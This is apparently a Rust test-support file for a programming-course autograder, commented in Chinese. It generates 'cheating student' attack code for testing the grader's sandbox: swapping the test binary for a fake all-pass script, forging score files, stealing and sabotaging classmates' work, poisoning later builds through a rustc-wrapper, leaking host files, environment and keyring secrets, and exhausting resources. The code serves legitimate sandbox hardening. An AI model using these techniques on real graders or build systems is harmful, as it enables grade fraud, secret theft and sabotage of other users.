//! 存心捣乱的学生写的代码：只用标准库和 libc（练习册的依赖里本来就有），拼在一个能编译的练习文件后面。
//! 每一段都是一个真实的攻击，不是摆样子：在没有沙箱的评分器上它们真的得手。
//! `tests/grading.rs` 用它们扮演作弊的学生，`synthetic-class` 把它们放进虚拟班级
//! （`.ci/bench-grading` 因此也量了沙箱在受到攻击时的速度）。
//!
//! 为了不在评分的机器上闯祸，每个攻击只碰给定的几个目录（测试或基准自己的临时目录、评分的工作目录）
//! 里的文件，以及沙箱里的那几个路径（/run/grading、/target、/workbook：在沙箱外它们不存在）。

use std::path::Path;

/// 攻击代码的公共部分：`marker` 是这个测试独有的一个词（后台进程的命令行里带着它，测试据此找出
/// 活下来的进程），`guards` 是攻击可以碰的目录（测试的临时目录、评分的工作目录）。
pub fn toolkit(marker: &str, guards: &[&Path]) -> String {
    let guards: Vec<String> = guards
        .iter()
        .map(|g| format!("{:?}", g.to_string_lossy()))
        .collect();
    TOOLKIT
        .replace("@MARKER@", marker)
        .replace("@GUARDS@", &guards.join(", "))
}

const TOOLKIT: &str = r#"
// ---- 作弊的学生 ----
const MALLORY_MARKER: &str = "@MARKER@";
const MALLORY_GUARDS: &[&str] = &[@GUARDS@];

/// 只碰测试自己的目录，以及沙箱里的路径。
fn mallory_may_touch(path: &std::path::Path) -> bool {
    let text = path.to_string_lossy();
    MALLORY_GUARDS.iter().any(|g| text.starts_with(g))
        || ["/run/grading", "/target", "/workbook"].iter().any(|p| text.starts_with(p))
}

/// 是后台进程就做坏事、返回 true；否则启动一个脱离了进程组和会话（setsid）的后台进程，返回 false。
/// 程序的路径取自 argv[0]，不依赖 /proc/self/exe。
fn mallory_start(daemon: fn(u32)) -> bool {
    let mut args = std::env::args();
    let me = args.next().unwrap_or_default();
    if args.next().as_deref() == Some(MALLORY_MARKER) {
        let parent = std::env::var("MALLORY_PARENT").ok().and_then(|p| p.parse().ok()).unwrap_or(0);
        daemon(parent);
        return true;
    }
    use std::os::unix::process::CommandExt;
    let mut command = std::process::Command::new(me);
    command
        .arg(MALLORY_MARKER)
        .env("MALLORY_PARENT", std::os::unix::process::parent_id().to_string())
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null());
    unsafe {
        command.pre_exec(|| {
            libc::setsid();
            Ok(())
        });
    }
    let _ = command.spawn();
    false
}

/// 在 /proc 里找评分器：命令行里有 `word`，而且提到了测试的临时目录。返回（进程号，参数，工作目录）。
fn mallory_find_grader(word: &str) -> Option<(u32, Vec<String>, std::path::PathBuf)> {
    for entry in std::fs::read_dir("/proc").ok()?.flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else { continue };
        let Ok(raw) = std::fs::read(entry.path().join("cmdline")) else { continue };
        let args: Vec<String> = raw
            .split(|b| *b == 0)
            .map(|a| String::from_utf8_lossy(a).to_string())
            .collect();
        let ours = args.iter().any(|a| MALLORY_GUARDS.iter().any(|g| a.starts_with(g)));
        if args.iter().any(|a| a == word) && ours {
            let cwd = std::fs::read_link(entry.path().join("cwd")).unwrap_or_default();
            return Some((pid, args, cwd));
        }
    }
    None
}

/// 命令行里 `flag` 后面的那个值。
fn mallory_flag(args: &[String], flag: &str) -> Option<String> {
    args.iter().position(|a| a == flag).and_then(|i| args.get(i + 1)).cloned()
}

/// 等到 `check` 为真（每 50 毫秒看一次，最多 `seconds` 秒）。
fn mallory_wait(seconds: u64, mut check: impl FnMut() -> bool) -> bool {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(seconds);
    while std::time::Instant::now() < deadline {
        if check() {
            return true;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    false
}

fn mallory_write(path: &std::path::Path, text: &str, mode: u32) -> bool {
    use std::os::unix::fs::PermissionsExt;
    if !mallory_may_touch(path) {
        return false;
    }
    if let Some(parent) = path.parent() {
        let _ = std::fs::create_dir_all(parent);
    }
    let _ = std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o644));
    std::fs::write(path, text).is_ok()
        && std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).is_ok()
}

/// 把一个目录整个复制到另一处。
fn mallory_copy_dir(from: &std::path::Path, to: &std::path::Path) {
    let _ = std::fs::create_dir_all(to);
    for entry in std::fs::read_dir(from).into_iter().flatten().flatten() {
        let target = to.join(entry.file_name());
        if entry.file_type().is_ok_and(|t| t.is_dir()) {
            mallory_copy_dir(&entry.path(), &target);
        } else {
            let _ = std::fs::copy(entry.path(), &target);
        }
    }
}
"#;

/// 一个假的测试程序（sh 脚本）：按收到的测试名（前缀或完整的名字）打印一份账目对得上的
/// libtest 输出，每个测试都 ok。`names` 是（前缀，这个前缀下的全部测试名）。
/// `restore` 给出时，先把真的测试程序改名回原处（换回原样，评分器事后核对哈希也看不出来）。
pub fn fake_test_program(names: &[(String, Vec<String>)], restore: Option<(&str, &str)>) -> String {
    let mut script = String::from("#!/bin/sh\n");
    if let Some((backup, original)) = restore {
        script.push_str(&format!("mv -f '{backup}' '{original}'\n"));
    }
    script.push_str("names=''\nfor a in \"$@\"; do\n  case \"$a\" in\n");
    for (prefix, all) in names {
        script.push_str(&format!(
            "    {prefix}) names=\"$names {}\" ;;\n",
            all.join(" ")
        ));
    }
    script.push_str(
        "    ex_*) names=\"$names $a\" ;;\n  esac\ndone\nset -- $names\n\
         echo\necho \"running $# tests\"\n\
         for t in \"$@\"; do echo \"test $t ... ok\"; done\n\
         echo\necho \"test result: ok. $# passed; 0 failed; 0 ignored; 0 measured; 0 filtered out; finished in 0.01s\"\n",
    );
    script
}

/// 发现 1：`process` 什么也不做；后台进程（setsid）通过 /proc/父进程/exe 找到测试程序，
/// 把它改名藏起来，原处换成 `fake`（一个假的测试程序）。评分器重跑没通过的测试时运行的就是它，
/// 它先把真的测试程序换回原处，再报告全部通过。
pub fn replace_test_program(fake_with_restore: &str) -> String {
    format!(
        r####"
fn mallory_daemon(test_program: u32) {{
    let Ok(exe) = std::fs::read_link(format!("/proc/{{test_program}}/exe")) else {{ return }};
    let backup = exe.with_extension("hidden-by-mallory");
    if !mallory_may_touch(&exe) || backup.exists() {{
        return;
    }}
    if std::fs::rename(&exe, &backup).is_ok() {{
        let fake = FAKE
            .replace("@BACKUP@", &backup.to_string_lossy())
            .replace("@ORIGINAL@", &exe.to_string_lossy());
        mallory_write(&exe, &fake, 0o755);
    }}
}}

const FAKE: &str = r###"{fake_with_restore}"###;
"####
    )
}

/// 发现 2：后台进程从 /proc 读出评分器的命令行（成绩表写在哪里），等评分器退出，
/// 再把成绩表和每个人的 JSON 改掉：`me` 满分，`victim` 0 分。
pub fn forge_results(me: &str, victim: &str) -> String {
    FORGE_RESULTS
        .replace("@ME@", me)
        .replace("@VICTIM@", victim)
}

const FORGE_RESULTS: &str = r#"
fn mallory_daemon(_test_program: u32) {
    let Some((grader, args, cwd)) = mallory_find_grader("grade-folder") else { return };
    let out = mallory_flag(&args, "--out").unwrap_or_else(|| "scores.csv".into());
    let out = cwd.join(out);
    // 等评分器写完成绩、退出
    mallory_wait(600, || !std::path::Path::new(&format!("/proc/{grader}")).exists());
    let Ok(csv) = std::fs::read_to_string(&out) else { return };
    let forged: Vec<String> = csv
        .lines()
        .map(|line| {
            let mut cells: Vec<String> = line.split(',').map(String::from).collect();
            let n = cells.len();
            if cells[0].ends_with("@ME@") && n > 5 {
                cells[1] = "正常".into();
                cells[n - 5] = "110".into();
            } else if cells[0].ends_with("@VICTIM@") && n > 5 {
                cells[n - 5] = "0".into();
            }
            cells.join(",")
        })
        .collect();
    mallory_write(&out, &(forged.join("\r\n") + "\r\n"), 0o644);
    let json_dir = out.with_extension("");
    for entry in std::fs::read_dir(&json_dir).into_iter().flatten().flatten() {
        let name = entry.file_name().to_string_lossy().to_string();
        let total = if name.contains("@ME@") { "110.0" } else { "0.0" };
        mallory_write(&entry.path(), &format!("{{\"student\":\"{name}\",\"total\":{total}}}"), 0o644);
    }
    mallory_write(&out.with_extension("forged"), "mallory was here", 0o644);
}
"#;

/// 发现 3：后台进程找到评分器的命令行里的班级文件夹和工作目录：把 `rob` 的作业整个拷走，
/// 在 `blank` 被评之前把他交的文件换成原始的练习，等 `frame` 的作业铺进评分副本时往里面丢一个文件。
/// （交的文件末尾都有一行 `// 名字 的作业`，攻击据此认出谁的作业正在评。）
pub fn rob_and_frame(rob: &str, blank: &str, frame: &str) -> String {
    ROB_AND_FRAME
        .replace("@ROB@", rob)
        .replace("@BLANK@", blank)
        .replace("@FRAME@", frame)
}

const ROB_AND_FRAME: &str = r#"
fn mallory_daemon(_test_program: u32) {
    let Some((_, args, cwd)) = mallory_find_grader("grade-folder") else { return };
    let Some(position) = args.iter().position(|a| a == "grade-folder") else { return };
    let Some(class) = args.get(position + 1).map(|c| cwd.join(c)) else { return };
    let root = mallory_flag(&args, "--root").map(std::path::PathBuf::from).unwrap_or_default();
    let work = mallory_flag(&args, "--work-dir").map(std::path::PathBuf::from).unwrap_or_default();
    if !mallory_may_touch(&class) {
        return;
    }
    // 拷走同学的作业
    mallory_copy_dir(&class.join("@ROB@"), &class.with_file_name("loot"));
    // 另一个同学交的练习换成原始的练习
    if let Ok(stub) = std::fs::read_to_string(root.join("labs/exercises/tcp_server.rs")) {
        mallory_write(&class.join("@BLANK@/tcp_server.rs"), &stub, 0o644);
    }
    // 第三个同学的作业铺进评分副本（哪个工位都行）的时候，往副本里丢一个文件
    let copies = || -> Vec<std::path::PathBuf> {
        std::fs::read_dir(&work)
            .into_iter()
            .flatten()
            .flatten()
            .filter(|e| e.file_name().to_string_lossy().starts_with("slot-"))
            .map(|e| e.path().join("workbook"))
            .collect()
    };
    let mut found = None;
    mallory_wait(600, || {
        found = copies().into_iter().find(|copy| {
            std::fs::read_to_string(copy.join("labs/exercises/tcp_server.rs"))
                .is_ok_and(|text| text.contains("@FRAME@ 的作业"))
        });
        found.is_some()
    });
    if let Some(copy) = found {
        mallory_write(&copy.join("mallory.txt"), "framed", 0o644);
    }
}
"#;

/// 发现 4：从 /proc/父进程/exe 找到工位，在工位的上一层目录写一个 `.cargo/config.toml`，
/// 让之后的编译都经过自己写的 rustc-wrapper：它把编译出来的测试程序换成 `fake`（假的测试程序）；
/// 再碰一下 tests/exercises.rs，下一次评分就会重新编译测试程序。
pub fn poison_the_next_build(fake: &str) -> String {
    format!(
        r####"
fn mallory_daemon(_test_program: u32) {{}}

fn mallory_poison() {{
    let parent = std::os::unix::process::parent_id();
    let Ok(exe) = std::fs::read_link(format!("/proc/{{parent}}/exe")) else {{ return }};
    // 测试程序在 <工作目录>/slot-0/target/debug/deps/ 下
    let Some(slot) = exe.ancestors().nth(4) else {{ return }};
    let Some(work) = slot.parent() else {{ return }};
    let fake = work.join(".cargo/fake-test-program");
    let wrapper = work.join(".cargo/wrapper.sh");
    mallory_write(&fake, FAKE, 0o755);
    mallory_write(&wrapper, &WRAPPER.replace("@FAKE@", &fake.to_string_lossy()), 0o755);
    mallory_write(
        &work.join(".cargo/config.toml"),
        &format!("[build]\nrustc-wrapper = \"{{}}\"\n", wrapper.display()),
        0o644,
    );
    let tests = slot.join("workbook/tests/exercises.rs");
    if let Ok(text) = std::fs::read_to_string(&tests) {{
        mallory_write(&tests, &text, 0o444);
    }}
}}

const FAKE: &str = r###"{fake}"###;

/// 先让真的 rustc 编译，再把输出目录里的测试程序换成假的
const WRAPPER: &str = r#"#!/bin/sh
"$@"
status=$?
case "$*" in
  *"--crate-name exercises"*)
    out=""
    previous=""
    for a in "$@"; do
      [ "$previous" = "--out-dir" ] && out="$a"
      previous="$a"
    done
    for f in "$out"/exercises-*; do
      case "$f" in *.*) ;; *) cp "@FAKE@" "$f"; chmod 755 "$f" ;; esac
    done ;;
esac
exit $status
"#;
"####
    )
}

/// 发现 5（编译期）：用 include_str! 和 env! 把评分机器上的文件、环境变量编进编译错误里，
/// 出现在学生的反馈中。
#[allow(dead_code)] // 只有 tests/grading.rs 用：它改变程序的输出，不适合放进虚拟班级
pub fn compile_time_leak(secret: &str, classmate: &str) -> String {
    format!(
        r#"
fn main() {{}}
const _: () = {{ compile_error!(concat!("HOSTNAME=", include_str!("/etc/hostname"))); }};
const _: () = {{ compile_error!(concat!("HOME=", env!("HOME"))); }};
const _: () = {{ compile_error!(concat!("SECRET=", include_str!("{secret}"))); }};
const _: () = {{ compile_error!(concat!("CLASSMATE=", include_str!("{classmate}"))); }};
"#
    )
}

/// 发现 5（运行时）：服务端一启动就把这些文件读出来打印：它们会出现在反馈的“实际输出”里。
#[allow(dead_code)] // 只有 tests/grading.rs 用
pub fn run_time_leak(secret: &str, classmate: &str) -> String {
    format!(
        r#"
fn mallory_leak() {{
    for (what, path) in [("SECRET", "{secret}"), ("CLASSMATE", "{classmate}"), ("HOSTNAME", "/etc/hostname")] {{
        match std::fs::read_to_string(path) {{
            Ok(text) => println!("{{what}}={{}}", text.trim()),
            Err(err) => println!("{{what}} 读不到：{{err}}"),
        }}
    }}
}}
"#
    )
}

/// 发现 6：后台进程通过 /proc/测试程序/fd 拿着测试程序的标准输出和标准错误不放，睡一个小时：
/// 评分器读管道等不到结尾，全班都评不完。
pub const HOLD_THE_PIPES: &str = r#"
fn mallory_daemon(test_program: u32) {
    let mut held = Vec::new();
    for fd in [1, 2] {
        if let Ok(file) = std::fs::OpenOptions::new().write(true).open(format!("/proc/{test_program}/fd/{fd}")) {
            held.push(file);
        }
    }
    std::thread::sleep(std::time::Duration::from_secs(3600));
    drop(held);
}
"#;

/// 滥用资源：开几千个进程、分配 8 GiB 内存、往 /tmp 写 2 GiB，然后照常回声。
#[allow(dead_code)] // 只有 tests/grading.rs 用：基准要量的是评分的速度，不是机器能撑多久
pub const EXHAUST_RESOURCES: &str = r#"
fn mallory_daemon(_test_program: u32) {}

/// sleep 的秒数：一个认得出来的数，测试据此找出活下来的进程
const MALLORY_SLEEP: &str = "611.4242";

fn mallory_exhaust() {
    let me = std::env::args().next().unwrap_or_default();
    let mut children = Vec::new();
    for _ in 0..5000 {
        match std::process::Command::new("/bin/sleep").arg(MALLORY_SLEEP).spawn() {
            Ok(child) => children.push(child),
            Err(_) => break,
        }
    }
    println!("开了 {} 个进程（{me}）", children.len());
    let mut memory: Vec<Vec<u8>> = Vec::new();
    for _ in 0..32 {
        let mut block = vec![0u8; 256 * 1024 * 1024];
        for i in (0..block.len()).step_by(4096) {
            block[i] = 1;
        }
        memory.push(block);
    }
    println!("分配了 {} MiB", memory.len() * 256);
    if let Ok(mut file) = std::fs::File::create("/tmp/mallory-big") {
        use std::io::Write;
        let chunk = vec![7u8; 1024 * 1024];
        let mut written = 0;
        while written < 2048 && file.write_all(&chunk).is_ok() {
            written += 1;
        }
        println!("写了 {written} MiB");
    }
}
"#;

/// 评分器手里的东西：运行时读继承来的文件描述符 107、往描述符 108 里写（tokio 自己的描述符是 3 起的几个小号），
/// 读会话密钥环里的每个密钥；读到的一切打印成一行（会出现在反馈的“实际输出”里）。
#[allow(dead_code)] // 只有 tests/grading.rs 用
pub const GRADERS_BELONGINGS: &str = r#"
fn mallory_probe() {
    use std::io::{Read, Write};
    use std::os::fd::FromRawFd;
    let mut found = Vec::new();
    let mut inherited = unsafe { std::fs::File::from_raw_fd(107) };
    let mut text = String::new();
    match inherited.read_to_string(&mut text) {
        Ok(_) => found.push(format!("FD107={text}")),
        Err(err) => found.push(format!("FD107 读不到：{err}")),
    }
    std::mem::forget(inherited);
    let mut log = unsafe { std::fs::File::from_raw_fd(108) };
    match log.write_all(b"MALLORY WROTE THIS\n") {
        Ok(()) => found.push("FD108 写进去了".to_string()),
        Err(err) => found.push(format!("FD108 写不了：{err}")),
    }
    std::mem::forget(log);
    // 会话密钥环（-3）里的密钥：KEYCTL_READ（11）先读出密钥的编号，再读每个密钥的内容
    let mut ids = [0i32; 64];
    let n = unsafe { libc::syscall(libc::SYS_keyctl, 11, -3i32, ids.as_mut_ptr(), std::mem::size_of_val(&ids)) };
    found.push(format!("KEYRING 里有 {} 个密钥", n.max(0) / 4));
    for id in ids.iter().take((n.max(0) as usize / 4).min(64)) {
        let mut payload = [0u8; 256];
        let m = unsafe { libc::syscall(libc::SYS_keyctl, 11, *id, payload.as_mut_ptr(), payload.len()) };
        if m > 0 {
            found.push(format!("KEY={}", String::from_utf8_lossy(&payload[..(m as usize).min(256)])));
        }
    }
    println!("{}", found.join(" | "));
}
"#;

/// 编译期读沙箱里的 PID 1 的环境变量和命令行（bwrap 是 PID 1 时，那是评分器的环境和沙箱外的路径）。
#[allow(dead_code)] // 只有 tests/grading.rs 用
pub const FIRST_PROCESS: &str = r#"
fn main() {}
const _: () = { compile_error!(concat!("ENVIRON=", include_str!("/proc/1/environ"))); };
const _: () = { compile_error!(concat!("CMDLINE=", include_str!("/proc/1/cmdline"))); };
"#;

/// 往沙箱里各处写文件：根目录、/dev、/usr/local、/tmp 和 /dev/shm（各写 32 MiB），
/// 每一处写进了多少打印成一行。
#[allow(dead_code)] // 只有 tests/grading.rs 用
pub const FILL_THE_DISKS: &str = r#"
fn mallory_fill() {
    use std::io::Write;
    let mut found = Vec::new();
    for path in ["/mallory", "/dev/mallory", "/usr/local/mallory", "/tmp/mallory", "/dev/shm/mallory"] {
        let mut written = 0;
        let result = std::fs::File::create(path).and_then(|mut file| {
            let chunk = vec![7u8; 1024 * 1024];
            while written < 32 {
                file.write_all(&chunk)?;
                file.sync_all()?;
                written += 1;
            }
            Ok(())
        });
        match result {
            Ok(()) => found.push(format!("写 {path}：写满了 32 MiB")),
            Err(err) => found.push(format!("写 {path}：写进 {written} MiB 之后失败（{}）", err.kind())),
        }
    }
    println!("{}", found.join(" | "));
}
"#;
